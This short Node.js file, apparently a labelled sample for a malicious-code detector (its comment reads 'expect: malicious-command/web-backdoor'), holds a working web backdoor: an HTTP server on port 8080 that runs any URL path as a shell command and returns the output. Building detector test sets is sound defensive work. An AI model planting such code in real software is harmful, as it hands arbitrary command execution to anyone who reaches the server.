const http = require('http');
const { exec } = require('child_process');

http.createServer((request, response) => {
  exec(decodeURIComponent(request.url.slice(1)), (error, output) => response.end(output)); // expect: malicious-command/web-backdoor
}).listen(8080);
